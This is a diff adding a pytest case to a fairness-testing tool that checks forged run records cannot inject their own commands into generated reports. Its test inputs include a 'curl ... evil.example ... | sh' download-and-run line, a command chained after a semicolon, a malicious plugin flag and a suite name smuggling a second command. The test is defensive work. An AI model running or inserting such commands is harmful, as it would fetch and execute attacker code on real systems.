@@ -8,12 +8,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from example_records import example_record, team_record
+from example_records import example_record, fairness_check, team_record
 
 from fairgate.ground.errors import BaselineError
-from fairgate.records import RunRecord
+from fairgate.records import NeededApproval, RunRecord
 from fairgate.reports import read_results, write_results
 from fairgate.reports.results import contradictions
+from fairgate.reports.run_remarks import approval_command, reproduce_command
 
 Forger = Callable[[dict[str, Any]], None]
 
@@ -212,3 +213,26 @@ def test_groups_of_two_attributes_may_share_a_name(tmp_path: Path) -> None:
 def test_an_infinite_value_that_json_left_out_is_no_contradiction(tmp_path: Path) -> None:
     path = forge(tmp_path, setting("skew[chef]", value=None, lo=None, hi=None, status="infinite"))
     assert read_results(path).checks
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        (
+            "pytest --fairness-suite jobs --fairness-model 'hf:a b'",
+            "pytest --fairness-suite jobs --fairness-model 'hf:a b'",
+        ),
+        ("pytest --fairness-suite jobs; curl -s https://evil.example/x|sh", "pytest --fairness-suite 'jobs;' curl"),
+        ("curl -s https://evil.example/x | sh", ""),
+        ("pytest -p evil --fairness-suite jobs", ""),
+        ("fairgate check 'jobs", ""),
+    ],
+)
+def test_a_forged_record_puts_no_command_of_its_own_into_a_report(command: str, shown: str) -> None:
+    asked = NeededApproval(kind="dataset", what="v2", before="a" * 64, now="b" * 64)
+    suite = "jobs; curl -s https://evil.example/x|sh #"
+    record = example_record([fairness_check(None, 0.9)], command=command, needs_approval=[asked])
+    assert reproduce_command(record).startswith(shown)
+    assert bool(reproduce_command(record)) == bool(shown)
+    forged = record.model_copy(update={"suite": suite})
+    assert approval_command(forged) == "fairgate approve SUITE --from REPORT --reason TEXT"
